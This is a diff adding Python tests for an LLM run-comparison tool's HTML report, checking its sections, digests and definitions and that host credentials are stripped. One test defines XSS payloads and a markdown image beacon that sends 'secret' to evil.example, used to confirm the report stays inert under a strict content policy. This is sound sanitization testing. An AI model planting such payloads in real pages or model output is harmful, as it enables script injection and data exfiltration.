@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import html
 import json
 import re
 import threading
@@ -19,16 +20,27 @@ from backends.sampling import Sampling
 from backends.status import Status
 from backends.stream import Answer, GenerationStats
 from backends.vllm_backend import VLLMBackend
+from studio.pv.checks import CHECK_DEFINITIONS
 from studio.pv.grounding import check_run
 from studio.pv.library import load_locations
 from studio.pv.prompt import build_user_prompt
 from studio.records.render import markdown_to_safe_html
 from studio.runs import connection
-from studio.runs.compare import Comparison, Spread, is_measured, pane_labels, spread
+from studio.runs.compare import (
+    FIGURE_DEFINITIONS,
+    FIGURES,
+    Comparison,
+    Spread,
+    definitions,
+    is_measured,
+    pane_labels,
+    spread,
+)
 from studio.runs.request import RunParams
+from studio.runs.serving import DEFINITIONS
 from studio.settings.config import load_config
 from tests.conftest import wait_until
-from tests.servers.ollama import FakeOllama, Script, chat_messages, tokenize
+from tests.servers.ollama import FakeOllama, Script, chat_messages, tag_digest, tokenize
 from tests.servers.ollama import prompt_tokens as prompt_length
 from tests.servers.vllm import FakeVLLM, completion
 
@@ -637,3 +649,90 @@ def test_the_report_shows_a_failed_panes_error_and_its_fix(ollama_server: FakeOl
     assert "No GGUF model named &#x27;/models/missing.gguf&#x27;." in sections[1]
     assert "Pick a served model." in sections[1]
     assert "Error:" not in sections[0]
+
+
+# -- the static report: what it must hold to be read where no server is reachable -------------
+def test_the_report_has_the_prompts_parameters_digests_definitions_and_checks(
+        ollama_server: FakeOllama) -> None:
+    location = load_locations()[0]
+    with FakeVLLM(200, completion(VLLM_ANSWER)) as vllm:
+        panes = [RunParams("ollama", ollama_server.url.replace("//", "//ana:s3cret@"),
+                           "llama3.1:8b",
+                           sampling=Sampling(max_tokens=777, temperature=0.35,
+                                             repeat_penalty=1.2, think="off")),
+                 vllm_pane(vllm.url)]
+        comparison = Comparison(panes, SYSTEM, PROMPT, repeats=2, preset="San Diego, CA",
+                                location=location, build=build).start()
+        assert comparison.wait(20)
+    report = comparison.to_html()
+    assert "s3cret" not in report and "ana:" not in report
+    prompts = _section(report, "Prompts")
+    assert html.escape(SYSTEM) in prompts and html.escape(PROMPT) in prompts
+    parameters = _section(report, "Parameters")
+    for shown in ("Ollama", "vLLM", "llama3.1:8b", "smollm2", html.escape(ollama_server.url),
+                  "777", "0.35", "1.2", "off", "server default", "Markdown report", "stream",
+                  "one piece", "Repeats", "2", f"sha256:{tag_digest('llama3.1:8b')}",
+                  "not reported by the server"):
+        assert f"<td>{shown}</td>" in parameters, shown
+    data = json.loads(comparison.to_json())
+    assert [pane["model_digest"] for pane in data["panes"]] == [
+        f"sha256:{tag_digest('llama3.1:8b')}", "not reported by the server"]
+    assert data["definitions"] == definitions()
+    definitions_part = _section(report, "Definitions")
+    for name, text in {**{label: FIGURE_DEFINITIONS[key] for key, label, _ in FIGURES},
+                       **CHECK_DEFINITIONS}.items():
+        assert f"<dt>{html.escape(name)}</dt><dd>{html.escape(text)}</dd>" in definitions_part
+    assert DEFINITIONS["E2EL"] in FIGURE_DEFINITIONS["total"]  # in vllm bench serve's words
+    sections = re.findall(r"<section>(.*?)</section>", report, re.DOTALL)
+    assert len(sections) == 2
+    for section in sections:  # each pane's figure check, saying what it checks
+        assert "<h4>Figure check</h4>" in section and "Figures right: " in section
+        assert "against the location&#x27;s data" in section and "Grounding: " in section
+    assert "<table class=checks>" in sections[0]
+
+
+def test_every_figure_has_one_definition() -> None:
+    assert list(FIGURE_DEFINITIONS) == [key for key, _, _ in FIGURES]
+    assert set(definitions()) >= {label for _, label, _ in FIGURES} | set(CHECK_DEFINITIONS)
+
+
+BEACON = "![pixel](http://evil.example/beacon.png?q=secret)"
+HOSTILE_NAME = "\"><img src=x onerror=alert(1)>"
+
+
+def test_a_hostile_report_stays_inert_and_keeps_the_credentials_out() -> None:
+    """Model names, prompts, the preset and the answer from a hostile source: every string
+    is text, the answer is sanitized, nothing is fetched, no host's user:password@."""
+    answer = f"## Report\n\n{BEACON}\n\n<script>alert(3)</script> 128 panels.\n"
+    system = f"<script>alert(1)</script> {BEACON}"
+    prompt = f"{HOSTILE_NAME} <style>body{{background:url(http://evil.example/x)}}</style>"
+    with FakeOllama(models=[HOSTILE_NAME, "<script>x</script>"],
+                    script=Script(tokens=tokenize(answer), go_escape=False)) as server:
+        host = server.url.replace("//", "//user:password@")
+        panes = [RunParams("ollama", host, HOSTILE_NAME), RunParams("ollama", host,
+                                                                    "<script>x</script>")]
+        comparison = Comparison(panes, system, prompt, preset=f"<b>{HOSTILE_NAME}</b>",
+                                build=build).start()
+        assert comparison.wait(10)
+    assert [run.status for run in comparison.current_round] == [Status.FINISHED] * 2
+    report = comparison.to_html()
+    assert re.search(r"<meta http-equiv=\"Content-Security-Policy\"\s+content=\"default-src "
+                     r"'none'; style-src 'unsafe-inline'\">", report)
+    lowered = report.lower()
+    for tag in ("<script", "<img", "<style>body", "<iframe", "<link", "<object", "<b>"):
+        assert tag not in lowered, tag
+    assert re.search(r"<[^>]*\bon[a-z]+\s*=", lowered) is None  # no event handler
+    assert re.search(r"<[^>]*\ssrc\s*=", lowered) is None  # nothing to fetch
+    (style,) = re.findall(r"<style>(.*?)</style>", lowered, re.DOTALL)  # the template's own
+    assert "url(" not in style and "@import" not in style
+    assert "password" not in report and "user:" not in report
+    assert html.escape(HOSTILE_NAME) in report and html.escape(BEACON) in report
+    assert "evil.example/beacon.png" in report  # the answer's image: a link, not an <img>
+    assert f"sha256:{tag_digest(HOSTILE_NAME)}" in report
+
+
+def _section(report: str, heading: str) -> str:
+    """The report's part under ``<h2>heading</h2>``, up to the next heading of its rank."""
+    found = re.search(rf"<h2>{heading}</h2>(.*?)(?=<h2>|</main>)", report, re.DOTALL)
+    assert found is not None, heading
+    return found.group(1)
